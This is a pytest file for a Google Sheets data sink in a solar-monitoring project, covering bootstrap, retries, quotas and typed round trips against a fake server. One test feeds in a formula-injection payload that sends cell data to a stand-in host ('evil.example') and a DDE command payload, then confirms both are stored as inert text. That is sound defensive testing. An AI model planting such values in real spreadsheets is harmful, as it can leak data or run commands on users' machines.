"""The Sheets sink through the real googleapiclient against the loopback Sheets fake."""

from __future__ import annotations

from datetime import UTC, date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest

from pvs6_cloud.infra.errors import SinkUnavailable
from pvs6_cloud.store import SheetWrite
from pvs6_cloud.store._sheets_client import _build, build_service
from pvs6_cloud.store.sheets import SheetsSink
from pvs6_cloud.store.state import SiteState
from tests.support.sheets_fake import FakeClock, SheetsFake

TZ = ZoneInfo("America/New_York")
PANELS = [("E001", "Circuit 1 top"), ("E002", "E002")]
T0 = datetime(2025, 9, 12, 17, 0, tzinfo=UTC)


@pytest.fixture
def clock():
    return FakeClock()


@pytest.fixture(scope="module")
def server():
    with SheetsFake() as fake:
        yield fake


@pytest.fixture
def fake(server, clock):
    server.reset(clock=clock)
    return server


def make_sink(fake: SheetsFake, clock: FakeClock, sid: str | None = None, **kw) -> SheetsSink:
    sid = sid or fake.add_spreadsheet("Home")
    service, _ = build_service(fake.endpoint)
    return SheetsSink(service, sid, TZ, sleep=clock.sleep, **kw)


def reading(i: int, **extra) -> dict:
    return {"time": T0 + timedelta(minutes=15 * i), "production_kw": 1.0 + i, "inverters_working": 2,
            "snapshot_id": f"id{i:04d}", "panel:E001": 0.25, "panel:E002": 0.5 + i / 100, **extra}


def write_readings(sink: SheetsSink, rows: list[dict], state: SiteState | None = None) -> SiteState:
    state = state or sink.load_state()
    for row in rows:
        state.remember(row["snapshot_id"], row["time"])
    sink.commit(SheetWrite(state=state, panels=PANELS, append={"Readings": rows}))
    return state


def test_bootstrap_builds_every_tab_and_second_run_adds_nothing(fake, clock):
    sink = make_sink(fake, clock)
    first = sink.bootstrap(PANELS)
    sid = sink.spreadsheet_id
    book = fake.spreadsheets[sid]
    assert [s.title for s in book.sheets] == ["Readings", "Daily", "Monthly", "Devices", "Alerts", "_state"]
    assert first.removed == ["Sheet1"]
    readings = fake.sheet(sid, "Readings")
    assert fake.values(sid, "Readings")[0][-2:] == ["Circuit 1 top kW", "E002 kW"]
    assert readings.grid["frozenRowCount"] == 1
    assert readings.formats[0]["numberFormat"] == {"type": "DATE_TIME", "pattern": "yyyy-mm-dd hh:mm"}
    assert readings.widths[0] == 140
    assert fake.sheet(sid, "_state").properties["hidden"] is True
    assert [c["spec"]["title"] for c in fake.sheet(sid, "Daily").charts] == ["Daily solar production vs expected"]
    assert len(fake.sheet(sid, "Devices").charts) == 1

    batches = len(fake.batch_requests)
    again = make_sink(fake, clock, sid).bootstrap(PANELS, reformat=False)
    assert not again.changed
    assert len(fake.batch_requests) == batches  # nothing was sent at all
    repaired = make_sink(fake, clock, sid).bootstrap(PANELS)  # the CLI re-applies formats, adds no tab or chart
    assert not repaired.changed
    assert not {"addSheet", "addChart", "appendDimension"} & set(fake.batch_requests[-1])
    assert len(fake.sheet(sid, "Daily").charts) == 1


def test_bootstrap_repairs_drift_and_keeps_data(fake, clock):
    sink = make_sink(fake, clock)
    sink.bootstrap(PANELS)
    write_readings(sink, [reading(0)])
    sid = sink.spreadsheet_id
    state_tab = fake.sheet(sid, "_state")
    state_tab.properties["hidden"] = False  # a person un-hid it
    fake.sheet(sid, "Readings").grid["frozenRowCount"] = 0
    grown = [*PANELS, ("E003", "E003")]
    report = make_sink(fake, clock, sid).bootstrap(grown, reformat=False)
    assert set(report.properties_fixed) == {"_state", "Readings"}
    assert report.headers_fixed == ["Readings", "Daily"]
    assert state_tab is not fake.sheet(sid, "_state")  # the fake swapped in the new copy
    assert fake.sheet(sid, "_state").properties["hidden"] is True
    values = fake.values(sid, "Readings")
    assert values[0][-1] == "E003 kW"
    assert values[1][15] == "id0000"


def test_round_trip_is_typed_and_device_text_stays_text(fake, clock):
    sink = make_sink(fake, clock)
    sink.bootstrap(PANELS)
    evil = '=IMPORTXML("http://evil.example/?"&A1,"//x")'
    state = write_readings(sink, [reading(0, snapshot_id=evil)])
    state.devices.clear()
    sink.commit(SheetWrite(state=state, panels=PANELS, replace={"Devices": [
        {"serial": "E001", "model": "+cmd|' /C calc'!A0", "first_seen": T0, "lifetime_kwh": 2696.2471},
    ]}))
    sid = sink.spreadsheet_id
    assert fake.sheet(sid, "Readings").get(1, 15) == ("s", evil)  # stored as text, never a formula
    assert fake.sheet(sid, "Devices").get(1, 2) == ("s", "+cmd|' /C calc'!A0")
    # time is a site-local date serial: 2025-09-12 13:00 EDT
    assert fake.sheet(sid, "Readings").get(1, 0) == ("n", pytest.approx(45912 + 13 / 24))

    fresh = make_sink(fake, clock, sid)
    rows = fresh.read_records("Readings", PANELS)
    assert len(rows) == 1
    row = rows[0]
    assert row["time"] == T0 and row["time"].tzinfo == TZ
    assert row["production_kw"] == 1.0 and isinstance(row["production_kw"], float)
    assert row["inverters_working"] == 2 and isinstance(row["inverters_working"], int)
    assert row["snapshot_id"] == evil
    assert row["panel:E002"] == 0.5
    assert row["consumption_kw"] is None
    devices = fresh.read_records("Devices")
    assert devices[0]["first_seen"] == T0 and devices[0]["lifetime_kwh"] == 2696.25  # as its format shows it
    assert fresh.load_state().recent_ids == {evil: T0.isoformat()}


def test_replace_rewrites_the_whole_tab(fake, clock):
    sink = make_sink(fake, clock)
    sink.bootstrap(PANELS)
    state = sink.load_state()
    sink.commit(SheetWrite(state=state, replace={"Alerts": [{"kind": "a", "message": "one"},
                                                            {"kind": "b", "message": "two"}]}))
    sink.commit(SheetWrite(state=state, replace={"Alerts": [{"kind": "c", "message": "three"}]}))
    assert [r["kind"] for r in sink.read_records("Alerts")] == ["c"]


def test_upsert_replaces_by_key_and_appends_new(fake, clock):
    sink = make_sink(fake, clock)
    sink.bootstrap(PANELS)
    state = sink.load_state()
    d1, d2 = date(2025, 9, 11), date(2025, 9, 12)
    sink.commit(SheetWrite(state=state, panels=PANELS, upsert={"Daily": ("date", [
        {"date": d1, "production_kwh": 10.0}, {"date": d2, "production_kwh": 3.0}])}))
    sink.commit(SheetWrite(state=state, panels=PANELS, upsert={"Daily": ("date", [
        {"date": d2, "production_kwh": 20.0, "panel:E001": 1.5}, {"date": date(2025, 9, 13), "production_kwh": 1.0}])}))
    rows = sink.read_records("Daily", PANELS)
    assert [(r["date"], r["production_kwh"]) for r in rows] == [(d1, 10.0), (d2, 20.0), (date(2025, 9, 13), 1.0)]
    assert rows[1]["panel:E001"] == 1.5
    assert [r["date"] for r in sink.read_records("Daily", PANELS, start_row=2)] == [date(2025, 9, 13)]


def test_keyed_tabs_stay_in_key_order_whatever_order_rows_arrive_in(fake, clock):
    """A replay of older days after the nightly rollup: the Sheet sorts Daily and Monthly by their key."""
    sink = make_sink(fake, clock)
    sink.bootstrap(PANELS)
    state = sink.load_state()
    late, early = date(2025, 9, 12), date(2025, 6, 1)
    sink.commit(SheetWrite(state=state, panels=PANELS, upsert={
        "Daily": ("date", [{"date": late, "production_kwh": 3.0}]),
        "Monthly": ("month", [{"month": "2025-09", "production_kwh": 300.0}])}))
    sink.commit(SheetWrite(state=state, panels=PANELS, upsert={
        "Daily": ("date", [{"date": early, "production_kwh": 20.0}, {"date": late, "production_kwh": 4.0}]),
        "Monthly": ("month", [{"month": "2025-06", "production_kwh": 600.0}])}))
    daily = [(r["date"], r["production_kwh"]) for r in sink.read_records("Daily", PANELS)]
    assert daily == [(early, 20.0), (late, 4.0)]
    assert [r["month"] for r in sink.read_records("Monthly")] == ["2025-06", "2025-09"]


def test_live_commit_costs_one_read_and_one_write(fake, clock):
    sid = fake.add_spreadsheet()
    make_sink(fake, clock, sid).bootstrap(PANELS)
    sink = make_sink(fake, clock, sid)  # a cold function instance
    write_readings(sink, [reading(0)])
    fake.calls.clear()
    write_readings(sink, [reading(1)])  # warm: metadata cached
    assert [fake.count(m) for m in ("values.batchGet", "batchUpdate", "get")] == [1, 1, 0]
    assert len(fake.calls) == 2


def test_batch_over_the_cell_limit_writes_nothing(fake, clock):
    sink = make_sink(fake, clock, max_retries=1)
    sink.bootstrap(PANELS)
    sid = sink.spreadsheet_id
    state = write_readings(sink, [reading(0)])
    before = {s.title: [list(r) for r in s.rows] for s in fake.spreadsheets[sid].sheets}
    fake.max_cells = fake.spreadsheets[sid].cells() + 40  # room for one row of 17 cells, not for 300 rows
    with pytest.raises(SinkUnavailable, match="above the limit"):
        write_readings(sink, [reading(i) for i in range(1, 301)], state=sink.load_state())
    after = {s.title: [list(r) for r in s.rows] for s in fake.spreadsheets[sid].sheets}
    assert after == before  # not the rows, not the state: the batchUpdate is all or nothing
    assert set(sink.load_state().recent_ids) == set(state.recent_ids)


def test_429_is_retried_with_backoff_then_succeeds(fake, clock):
    fake.write_quota_per_min = 2
    sink = make_sink(fake, clock, max_retries=8)  # backoff 1, 2, 4 ... 32 s: enough to outlast a minute
    sink.bootstrap(PANELS)  # write 1
    write_readings(sink, [reading(0)])  # write 2
    write_readings(sink, [reading(1)])  # over quota: 429 until the fake minute passes
    assert len(clock.slept) >= 3 and clock.slept[0] < clock.slept[2]
    assert fake.count("batchUpdate") == 3 + len(clock.slept)
    assert len(sink.read_records("Readings", PANELS)) == 2


def test_retry_after_header_is_honoured(fake, clock):
    sink = make_sink(fake, clock)
    sink.bootstrap(PANELS)
    fake.fail(503, times=1, methods=("batchUpdate",), retry_after="7")
    write_readings(sink, [reading(0)])
    assert clock.slept == [7.0]


def test_persistent_500_gives_up_with_sink_unavailable(fake, clock):
    sink = make_sink(fake, clock, max_retries=3)
    sink.bootstrap(PANELS)
    fake.fail(500, times=None, methods=("batchUpdate",))
    with pytest.raises(SinkUnavailable, match="gave up after 4 attempts"):
        write_readings(sink, [reading(0)])
    assert len(clock.slept) == 3
    assert clock.slept[0] < clock.slept[2]  # exponential
    fake.clear_failures()
    assert sink.read_records("Readings", PANELS) == []


@pytest.mark.parametrize("status", [403, 404])
def test_denied_tells_the_owner_what_to_do(fake, clock, status):
    sink = make_sink(fake, clock, account="sentinel@proj.iam.gserviceaccount.com")
    fake.fail(status, times=None)
    with pytest.raises(SinkUnavailable, match=r"share the sheet \(Editor\) with sentinel@proj"):
        sink.load_state()
    assert clock.slept == []  # no point retrying a permission problem


def test_lost_reply_is_not_written_twice(fake, clock):
    sink = make_sink(fake, clock)
    sink.bootstrap(PANELS)
    fake.fail(500, times=1, methods=("batchUpdate",), after_apply=True)  # applied, but the client sees a 500
    write_readings(sink, [reading(0)])
    assert len(sink.read_records("Readings", PANELS)) == 1
    assert fake.count("batchUpdate") == 2  # bootstrap + the one commit; the retry was not sent


def test_missing_tabs_are_created_by_the_first_commit(fake, clock):
    sink = make_sink(fake, clock)
    assert sink.load_state() == SiteState()
    write_readings(sink, [reading(0)])
    assert len(sink.read_records("Readings", PANELS)) == 1


def test_client_ignores_proxy_environment(fake, clock, monkeypatch):
    for name in ("http_proxy", "HTTP_PROXY", "https_proxy", "HTTPS_PROXY"):
        monkeypatch.setenv(name, "http://127.0.0.1:9")  # nothing listens there
    monkeypatch.delenv("no_proxy", raising=False)
    monkeypatch.delenv("NO_PROXY", raising=False)
    service, _ = _build(fake.endpoint, "", 5.0)  # a fresh client, made while the proxy variables are set
    sink = SheetsSink(service, fake.add_spreadsheet(), TZ, max_retries=0, sleep=clock.sleep)
    assert sink.load_state() == SiteState()
    assert fake.count("get") == 1
